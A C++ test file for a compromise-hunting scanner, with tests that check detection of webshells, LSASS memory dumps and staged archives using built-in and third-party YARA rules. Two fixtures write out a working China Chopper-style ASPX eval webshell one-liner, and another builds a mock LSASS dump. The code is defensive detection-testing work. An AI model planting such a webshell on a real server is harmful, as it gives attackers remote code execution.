@@ -1,0 +1,186 @@
+// The file plane: webshells, dumps and staged archives found on disk by the
+// built-in YARA and place rules, user YARA rules with Loki's externals, and
+// the files' findings in the verdict. Golden tests read the third-party
+// samples from ../shared at run time.
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+#include <map>
+#include <set>
+
+#include "test_util.h"
+
+namespace exhunt {
+namespace {
+
+using testing::MemoryScan;
+
+std::map<std::string, std::set<std::string>> RulesByPath(const ScanResult& r, Severity at_least) {
+  std::map<std::string, std::set<std::string>> out;
+  for (const auto& f : r.findings)
+    if (f.rule->severity >= at_least) out[f.source.path].insert(f.rule->id);
+  return out;
+}
+
+size_t RegularFiles(const std::string& dir) {
+  size_t n = 0;
+  for (const auto& e : std::filesystem::recursive_directory_iterator(dir)) n += e.is_regular_file();
+  return n;
+}
+
+// Every webshell of the corpus is found by our own rules, wherever it lies
+// (here: in a folder that says nothing), at high or above.
+TEST(FilePlaneGolden, BuiltinRulesFindTheWebshellCorpus) {
+  EXHUNT_REQUIRE_SHARED(dir, "corpus/webshells/files");
+  ScanResult r = testing::ScanPath(dir);
+  auto found = RulesByPath(r, Severity::kHigh);
+  size_t files = RegularFiles(dir);
+  ASSERT_EQ(files, 46u);
+  std::vector<std::string> missed;
+  for (const auto& e : std::filesystem::directory_iterator(dir))
+    if (!found.count(e.path().filename().string())) missed.push_back(e.path().filename().string());
+  // At least 90 % of the files (the issue's bar); today all of them.
+  EXPECT_GE(double(files - missed.size()) / double(files), 0.90);
+  EXPECT_TRUE(missed.empty()) << missed.size() << " missed, first " << missed[0];
+  for (const auto& [path, rules] : found)
+    for (const auto& id : rules) EXPECT_EQ(id.rfind("exhunt_", 0), 0u) << path << ": " << id;
+  // Each is compromise evidence on its own.
+  ASSERT_EQ(r.hosts.size(), 1u);
+  EXPECT_EQ(r.hosts[0].verdict, Verdict::kCompromised);
+}
+
+TEST(FilePlaneGolden, BenignPagesRaiseNothingAtMediumOrAbove) {
+  EXHUNT_REQUIRE_SHARED(dir, "corpus/benign-aspx");
+  ScanResult r = testing::ScanPath(dir);
+  auto found = RulesByPath(r, Severity::kMedium);
+  EXPECT_TRUE(found.empty()) << found.begin()->first << ": " << *found.begin()->second.begin();
+  EXPECT_GE(r.stats.files, 100u);
+}
+
+// signature-base's 741 YARA files all compile with Loki's externals, and
+// with them loaded the webshell corpus is scanned and matched.
+TEST(FilePlaneGolden, SignatureBaseCompilesAndScansTheWebshells) {
+  EXHUNT_REQUIRE_SHARED(yara, "rules-thirdparty/signature-base/yara");
+  EXHUNT_REQUIRE_SHARED(shells, "corpus/webshells/files");
+  auto fs = NewPosixFileSystem();
+  RuleSet rules;
+  ASSERT_TRUE(rules.AddDirectory(fs.get(), yara, RuleSet::Files::kYara).ok());
+  size_t files = 0;
+  for (const auto& e : std::filesystem::directory_iterator(yara))
+    files += e.path().extension() == ".yar" || e.path().extension() == ".yara";
+  EXPECT_EQ(files, 741u);
+  EXPECT_TRUE(rules.errors().empty()) << rules.errors().size() << " not loaded, first "
+                                      << rules.errors()[0].status.message();
+  EXPECT_EQ(rules.yara_sources().size(), files - rules.errors().size());
+  EXPECT_GT(rules.rules().size(), 5000u);
+  ScanOptions o;
+  o.roots = {shells};
+  Scanner scanner(fs.get(), &rules, o);
+  ASSERT_TRUE(scanner.Prepare().ok());
+  ScanResult r = scanner.Scan();
+  EXPECT_TRUE(r.errors.empty()) << r.errors[0].path << ": " << r.errors[0].message;
+  std::set<std::string> matched;
+  for (const auto& f : r.findings) {
+    EXPECT_EQ(f.rule->kind, RuleKind::kYara);
+    EXPECT_EQ(f.source.kind, SourceRef::Kind::kFile);
+    matched.insert(f.source.path);
+  }
+  // signature-base alone knows most of these families (42 of 46 when written).
+  EXPECT_GE(matched.size(), 40u);
+  EXPECT_TRUE(matched.count("013_AspxSpy2014Final.aspx"));
+}
+
+TEST(FilePlane, APlantedShellInAspnetClientIsOneChainOfFindings) {
+  MemoryScan s;
+  s.Add("inetpub/wwwroot/aspnet_client/system_web/log.aspx",
+        "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>");
+  s.Add("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "function ValidatorOnLoad() {}");
+  ScanResult r = s.Run();
+  ASSERT_EQ(r.hosts.size(), 1u);
+  auto found = RulesByPath(r, Severity::kInfo);
+  EXPECT_EQ(found["inetpub/wwwroot/aspnet_client/system_web/log.aspx"],
+            (std::set<std::string>{"exhunt.file.page_in_aspnet_client", "exhunt_webshell_china_chopper_eval"}));
+  EXPECT_EQ(found.size(), 1u);  // the client script is no finding
+  EXPECT_EQ(r.hosts[0].verdict, Verdict::kCompromised);
+  const Finding* yara = nullptr;
+  for (const auto& f : r.findings)
+    if (f.rule->kind == RuleKind::kYara) yara = &f;
+  ASSERT_NE(yara, nullptr);
+  std::map<std::string, std::string> ev(yara->evidence.begin(), yara->evidence.end());
+  EXPECT_EQ(ev["Path"], "\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx");
+  EXPECT_NE(ev["yara:exhunt_webshell_china_chopper_eval"].find("\"unsafe\""), std::string::npos);
+  // SHA-256 of the file's bytes, as sha256sum prints it.
+  EXPECT_EQ(ev["SHA256"].size(), 64u);
+  EXPECT_EQ(r.stats.files, 2u);
+  EXPECT_EQ(r.stats.log_files, 0u);
+}
+
+// The externals a YARA rule sees are Loki's: filename, filepath (the
+// directory), extension (lowercase, with the dot), filetype (from the
+// first bytes), md5 of the content.
+TEST(FilePlane, YaraRulesSeeLokisExternals) {
+  MemoryScan s;
+  s.rules.AddYaraText(R"(
+rule ext_and_name { condition: extension == ".aspx" and filename == "Shell.ASPX" }
+rule dir_of_file { condition: filepath endswith "\\owa\\auth\\" }
+rule type_from_magic { condition: filetype == "EXE" }
+rule md5_of_content { condition: md5 == "900150983cd24fb0d6963f7d28e17f72" }
+)",
+                      "/user/loki.yar");
+  ASSERT_TRUE(s.rules.errors().empty()) << s.rules.errors()[0].status.message();
+  s.Add("FrontEnd/HttpProxy/owa/auth/Shell.ASPX", "<%@ Page %>");
+  s.Add("tools/x.bin", std::string("MZ\x90\x00", 4));
+  s.Add("notes/abc.txt", "abc");  // md5("abc")
+  ScanResult r = s.Run();
+  auto found = RulesByPath(r, Severity::kInfo);
+  EXPECT_TRUE(found["FrontEnd/HttpProxy/owa/auth/Shell.ASPX"].count("ext_and_name"));
+  EXPECT_TRUE(found["FrontEnd/HttpProxy/owa/auth/Shell.ASPX"].count("dir_of_file"));
+  EXPECT_EQ(found["tools/x.bin"], (std::set<std::string>{"type_from_magic"}));
+  EXPECT_EQ(found["notes/abc.txt"], (std::set<std::string>{"md5_of_content"}));
+}
+
+// A file over the content cap is judged by name and place and listed as
+// not read in full; its bytes are never hashed or matched.
+TEST(FilePlane, AFileOverTheContentCapIsJudgedByPlaceAndListed) {
+  MemoryScan s;
+  std::string big = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>" + std::string(4096, ' ');
+  s.Add("inetpub/wwwroot/aspnet_client/big.aspx", big);
+  ScanOptions o;
+  o.max_content_bytes = 1024;
+  ScanResult r = s.Run(o);
+  auto found = RulesByPath(r, Severity::kInfo);
+  EXPECT_EQ(found["inetpub/wwwroot/aspnet_client/big.aspx"],
+            (std::set<std::string>{"exhunt.file.page_in_aspnet_client"}));
+  ASSERT_EQ(r.hosts.size(), 1u);
+  ASSERT_EQ(r.hosts[0].skipped.size(), 1u);
+  EXPECT_EQ(r.hosts[0].skipped[0].path, "inetpub/wwwroot/aspnet_client/big.aspx");
+  EXPECT_NE(r.hosts[0].skipped[0].reason.find("content not read"), std::string::npos);
+  for (const auto& f : r.findings)
+    for (const auto& [k, v] : f.evidence) EXPECT_NE(k, "SHA256");
+}
+
+TEST(FilePlane, DumpsAndStagedArchives) {
+  MemoryScan s;
+  std::string dump = std::string("MDMP\x93\xa7", 6) + std::string(64, '\0');
+  for (char c : std::string("lsass.exe")) dump += std::string(1, c) + std::string(1, '\0');
+  dump += "lsasrv.dll";
+  s.Add("root/out.bin", dump);
+  s.Add("ProgramData/Microsoft/Windows/WER/ReportQueue/AppCrash_x/memory.hdmp", std::string("MDMP", 4));
+  s.Add("ProgramData/it.zip", "PK\x03\x04");
+  s.Add("ProgramData/Package Cache/{x}/setup.zip", "PK\x03\x04");
+  ScanResult r = s.Run();
+  auto found = RulesByPath(r, Severity::kInfo);
+  EXPECT_EQ(found["root/out.bin"], (std::set<std::string>{"exhunt_lsass_minidump", "exhunt.file.lsass_dump_name",
+                                                          "exhunt.file.minidump_unusual_place"}));
+  EXPECT_FALSE(found.count("ProgramData/Microsoft/Windows/WER/ReportQueue/AppCrash_x/memory.hdmp"));
+  EXPECT_EQ(found["ProgramData/it.zip"], (std::set<std::string>{"exhunt.file.staged_archive"}));
+  // A vendor's cache is listed, low, never dropped.
+  EXPECT_EQ(found["ProgramData/Package Cache/{x}/setup.zip"],
+            (std::set<std::string>{"exhunt.file.archive_in_programdata"}));
+  for (const auto& f : r.findings)
+    if (f.rule->id == "exhunt.file.archive_in_programdata") EXPECT_EQ(f.rule->severity, Severity::kLow);
+}
+
+}  // namespace
+}  // namespace exhunt
